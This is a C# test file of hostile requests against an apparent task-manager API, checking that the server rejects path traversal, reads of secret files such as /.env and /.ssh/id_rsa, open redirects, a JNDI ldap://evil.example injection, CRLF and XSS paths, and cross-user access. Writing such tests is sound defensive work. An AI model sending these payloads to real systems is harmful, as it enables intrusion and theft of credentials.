using static Quehacer.Server.Tests.Hostile.Expected;
using static Quehacer.Server.Tests.Hostile.Ground;

namespace Quehacer.Server.Tests.Hostile;

/// <summary>Paths (RFC 3986 §3.3), the ids in them, and things of somebody else wherever an id goes in.</summary>
internal static class Addresses
{
    private static readonly string[] Secrets =
    [
        "/.env", "/.git/config", "/.git/HEAD", "/.ssh/id_rsa", "/.htaccess", "/.aws/credentials", "/.DS_Store", "/etc/passwd", "/proc/self/environ", "/wp-admin", "/wp-login.php", "/phpinfo.php", "/index.php?s=/../../etc/passwd", "/admin", "/console", "/actuator/env", "/debug/pprof", "/server-status", "/swagger.json",
        "/swagger/index.html", "/graphql", "/appsettings.json", "/web.config", "/quehacer.dll", "/data/signing-key", "/signing-key", "/data/postgres/PG_VERSION", "/cgi-bin/sh", "/backup.sql", "/robots.txt~", "/.well-known/../.env", "/api", "/api/", "/api/v0/tasks", "/api/v2/tasks", "/api/v1", "/api/v1/", "/api/v1/users",
        "/api/v1/auth", "/api/v1/admin", "/api/v1/tasks.json", "/api/v1/tasks;a=b", "/api/v1/tasks%20", "/api/v1/%20tasks", "/api/v1/tasks%00", "/api/v1/tasks%2F1", "/api/v1/tasks%5C1", "/api/v1/tasks\\1", "/api\\v1\\tasks", "/api/v1/t%D0%B0sks", "/api/v1/tasks%E2%80%8B", "/api/v1/%74asks%2f", "/%61pi%2Fv1%2Ftasks", "/api%2fv1%2ftasks",
        "//api/v1/tasks", "/api//v1/tasks", "/api/v1//tasks", "///", "//evil.example/", "/\\evil.example", "/http://evil.example/", "/@evil.example", "/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/..%2f..%2fetc%2fpasswd", "/..%5c..%5cwindows", "/%252e%252e%252fetc", "/..;/..;/etc/passwd", "/....//....//etc/passwd", "/..%c0%af../etc/passwd",
        "/%c0%ae%c0%ae/etc/passwd", "/api/v1/../../../etc/passwd", "/../../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/.%2e/etc/passwd", "/errors/../../etc/passwd", "/errors/%2e%2e%2fvalidation", "/errors/nope", "/errors/VALIDATION%00", "/openapi/../v1.json.bak", "/openapi/v2.json", "/openapi/v1.yaml", "/docs/../../secret",
        "/docs/nope", "/health/nope", "/nope%0d%0aSet-Cookie:%20a=b", "/nope%1b%5b31m", "/nope%22%7d%7b", "/%", "/%%", "/%zz", "/%1", "/nope%", "/%FF", "/%ED%A0%80", "/%EF%BF%BE", "/nope?%00", "/nope?a=%0d%0a", "/<script>alert(1)</script>", "/'\"><img>", "/{id}", "/*", "/~root", "/$%7Bjndi:ldap://evil.example/a%7D", "/nope#fragment",
    ];

    public static IEnumerable<HostileCase> Paths(Ground ground)
    {
        foreach (var path in Secrets.Where(path => !path.Contains('#', StringComparison.Ordinal)))
        {
            // A path that no server can take apart is refused before anybody is asked (a NUL, an escape that is no UTF-8).
            yield return new(path, ground.Get(path), path.Contains("%00", StringComparison.Ordinal) && !path.Contains('?', StringComparison.Ordinal) ? Bare(400) : NotFound());
        }
        foreach (var path in new[] { $"{Tasks}/", $"{ground.Task}/", $"{Tasks}/%31", $"{Tasks}/1?", "/API/V1/TASKS", "/Api/v1/Tasks/1", $"{Tasks}/x/../1", $"{Tasks}/./1", "/api/v1/%74asks/1", "/nope/../tasks/1", "/%74%61%73%6b%73/1", $"{Tasks}/%2e/1", "/tasks/1/", $"{Tasks}/1/?_=%ff" })
        {
            yield return new(path, ground.Get(path), Taken(200));
        }
        foreach (var path in new[] { $"{Tasks}/../me", $"{Tasks}/%2e%2e/me", "/tasks/../api/v1/me" })
        {
            yield return new($"{path} without a token", ground.Ask("GET", path, "Authorization:\r\n"), Problem(401, "UNAUTHORIZED"));
        }
        foreach (var path in new[] { Tasks, $"{Tasks}/1", "/tasks", "/api/v1/me", "/api/v1/categories", "/api/v1/tags/1", "/API/V1/ME", "/Tasks/1", "/api/v1/tasks/1/" })
        {
            yield return new($"{path} with the token in the query", ground.Ask("GET", $"{path}?access_token={ground.Token}", "Authorization:\r\n"), Problem(401, "UNAUTHORIZED"));
        }
    }

    public static IEnumerable<HostileCase> Ids(Ground ground)
    {
        var suffix = ground.TaskId[5..];
        string[] none =
        [
            "0", "00", "01", "001", "-0", "-1", "+1", "%2B1", "1.0", "1.", "1e0", "0x1", "1%20", "%201", "1%09", "1,2", "1;", "1;v=2", "1&2", "1=1", "%D9%A1", "%EF%BC%91", "1%E2%80%8B", "2147483648", "4294967297", "9223372036854775807", "9223372036854775808", "99999999999999999999", "-9223372036854775808", "NaN", "null",
            "undefined", "true", "me", "all", "*", "%2A", "..%2f1", "%7Bid%7D", "task_", "task", "_", "task_0", $"task_{suffix}0", $"task_{suffix[..^1]}", $"TASK_{suffix}", $"task_{suffix.ToUpperInvariant()}", $"task-{suffix}", $"task{suffix}", $"task__{suffix}", $"user_{suffix}", $"cat_{suffix}", suffix, $"task_8{suffix[1..]}", $"task_z{suffix[1..]}",
            $"task_{suffix[..^1]}l", $"task_{suffix[..^1]}u", $"task_{suffix[..^1]}-", $"task_{suffix}%00x"[..^1].Replace("%00", "%20", StringComparison.Ordinal), "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "01890a5dac96774bbcceb302099a8057", "%7B01890a5d-ac96-774b-bcce-b302099a8057%7D", "(01890a5d-ac96-774b-bcce-b302099a8057)",
            "01890a5d-ac96-774b-bcce-b302099a805", "01890a5d-ac96-774b-bcce-b302099a80577", "01890a5d-ac96-774b-bcce-b302099a805g", "urn:uuid:01890a5d-ac96-774b-bcce-b302099a8057", "0x01890a5d", "task_01890a5d-ac96-774b-bcce-b302099a8057", "task_01h455vb4pex5vsknk084sn02q", "01890a5d-ac96-774b-bcce-b302099a8057", "%F0%9F%98%80", "a%2Fb", "a%5Cb", "%22", "%27", "%3Cscript%3E",
        ];
        foreach (var id in none.Distinct())
        {
            yield return new($"task {id}", ground.Get($"{Tasks}/{id}"), NotFound());
            yield return new($"category {id}", ground.Ask("DELETE", $"/api/v1/categories/{id}"), NotFound());
            // What is below /tasks/task is the envelope's.
            yield return new($"to complete {id}", ground.Ask("POST", $"{(id == "task" ? Tasks : "/tasks")}/{id}/complete"), NotFound());
            yield return new($"to change tag {id}", ground.Ask("PATCH", $"/api/v1/tags/{id}", "", Bytes("""{"name":"x"}""")), NotFound());
        }
        foreach (var id in new[] { "", "1", "none", " ", "cat_", ground.TaskId, ground.TagId, ground.CategoryId.ToUpperInvariant(), ground.CategoryId + " ", "{01890a5d-ac96-774b-bcce-b302099a8057}", "01890a5dac96774bbcceb302099a8057", "cat_8" + ground.CategoryId[5..], "../" + ground.CategoryId })
        {
            yield return new($"of category {Shown(id)}", ground.Make($$"""{"title":"a","category_id":"{{id}}"}"""), Invalid("category_id", "NOT_AN_ID"));
            yield return new($"into tag {Shown(id)}", ground.Ask("POST", $"/api/v1/tags/{ground.TagId}/merge", "", Bytes($$"""{"into":"{{id}}"}""")), id == ground.TagId ? Invalid("into", "CONTRADICTION") : Invalid("into", "NOT_AN_ID"));
        }
        foreach (var id in new[] { "cat_01h455vb4pex5vsknk084sn02q", "01890a5d-ac96-774b-bcce-b302099a8057", "00000000-0000-0000-0000-000000000000" })
        {
            yield return new($"of a category {id} that is not there", ground.Make($$"""{"title":"a","category_id":"{{id}}"}"""), Invalid("category_id", "NO_SUCH_THING"));
        }
    }

    public static IEnumerable<HostileCase> OfOthers(Ground ground)
    {
        foreach (var root in new[] { Tasks, "/tasks" })
        {
            var task = $"{root}/{ground.StrangersTask}";
            foreach (var (method, path, body) in new[]
            {
                ("GET", task, ""), ("HEAD", task, ""), ("PUT", task, """{"title":"mine"}"""), ("PATCH", task, """{"title":"mine"}"""), ("DELETE", task, ""), ("POST", $"{task}/complete", ""), ("POST", $"{task}/reopen", ""), ("POST", $"{task}/restore", ""),
                ("PUT", $"{task}/tags/kept", ""), ("DELETE", $"{task}/tags/kept", ""), ("PATCH", task, """{"title":"mine","version":1}"""), ("PATCH", task, """{}"""), ("POST", $"{task}/transfer", """{"workspace_id":"ws_01h455vb4pex5vsknk084sn02q"}"""),
            })
            {
                yield return new($"{method} {path} {body}", body.Length == 0 ? ground.Ask(method, path) : ground.Ask(method, path, "", Bytes(body)), NotFound());
                yield return new($"{method} {path} {body} if it matches", ground.Ask(method, path, "If-Match: *\r\n", body.Length == 0 ? null : Bytes(body)), NotFound());
            }
        }
        foreach (var op in new[] { "\"update\",\"task\":{\"title\":\"mine\"}", "\"complete\"", "\"reopen\"", "\"delete\"", "\"restore\"" })
        {
            yield return new($"{op} of a stranger's task in a batch", ground.Batch($$"""{"op":"create","task":{"title":"never"} },{"id":"{{ground.StrangersTask}}","op":{{op}} }"""), NotFound());
        }
        yield return new("a task in a stranger's category in a batch", ground.Batch($$"""{"op":"create","task":{"title":"a","category_id":"{{ground.StrangersCategory}}"} }"""), Invalid("operations[0].category_id", "NO_SUCH_THING"));
        foreach (var (collection, id, own) in new[] { ("categories", ground.StrangersCategory, ground.CategoryId), ("tags", ground.StrangersTag, ground.TagId) })
        {
            foreach (var (method, body) in new[] { ("GET", ""), ("PUT", """{"name":"mine"}"""), ("PATCH", """{"color":null}"""), ("DELETE", "") })
            {
                yield return new($"{method} of a stranger's one of the {collection}", ground.Ask(method, $"/api/v1/{collection}/{id}", "", body.Length == 0 ? null : Bytes(body)), NotFound());
                yield return new($"{method} of the wrong kind of the {collection}", ground.Ask(method, $"/api/v1/{(collection == "tags" ? "categories" : "tags")}/{own}", "", body.Length == 0 ? null : Bytes(body)), NotFound());
            }
            yield return new($"a count of a stranger's one of the {collection}", ground.Get($"/api/v1/{collection}/{id}?counts=true"), NotFound());
        }
        foreach (var method in new[] { "PATCH", "PUT" })
        {
            yield return new($"{method} into a stranger's category", ground.Ask(method, ground.Task, "", Bytes($$"""{"category_id":"{{ground.StrangersCategory}}"}""")), Invalid("category_id", "NO_SUCH_THING"));
        }
        yield return new("a new task in a stranger's category", ground.Make($$"""{"title":"a","category_id":"{{ground.StrangersCategory}}"}"""), Invalid("category_id", "NO_SUCH_THING"));
        yield return new("a new task in a workspace that is nobody's", ground.Make("""{"title":"a","workspace_id":"ws_01h455vb4pex5vsknk084sn02q"}"""), NotFound());
        yield return new("a task moved into a workspace that is nobody's", ground.Ask("POST", $"{ground.Task}/transfer", "", Bytes("""{"workspace_id":"ws_01h455vb4pex5vsknk084sn02q"}""")), NotFound());
        yield return new("a merge of a stranger's tag", ground.Ask("POST", $"/api/v1/tags/{ground.StrangersTag}/merge", "", Bytes($$"""{"into":"{{ground.TagId}}"}""")), NotFound());
        yield return new("a merge into a stranger's tag", ground.Ask("POST", $"/api/v1/tags/{ground.TagId}/merge", "", Bytes($$"""{"into":"{{ground.StrangersTag}}"}""")), Invalid("into", "NO_SUCH_THING"));
        yield return new("a merge of a category", ground.Ask("POST", $"/api/v1/categories/{ground.CategoryId}/merge", "", Bytes($$"""{"into":"{{ground.CategoryId}}"}""")), NotFound());
        yield return new("a list of a stranger's category", ground.Get($"{Tasks}?category_id={ground.StrangersCategory}"), Taken(200, answer => Assert.Empty(answer.Json["tasks"]!.AsArray())));
        yield return new("a stranger's cursor", ground.Get($"{Tasks}?limit=1&cursor={ground.StrangersCursor}"), Invalid("cursor", "INVALID_CURSOR"));
        foreach (var cursor in new[] { ground.StrangersCursor[..^1], ground.StrangersCursor[1..], ground.StrangersCursor + "A", ground.StrangersCursor.ToLowerInvariant(), "null", "0", "..", "eyJhIjoxfQ", "AAAA", new string('A', 64), "%3D%3D" })
        {
            yield return new($"a cursor {Shown(cursor)}", ground.Ask("GET", $"{Tasks}?limit=1&cursor={cursor}", "", null, ground.StrangersToken), Invalid("cursor", "INVALID_CURSOR"));
        }
    }
}
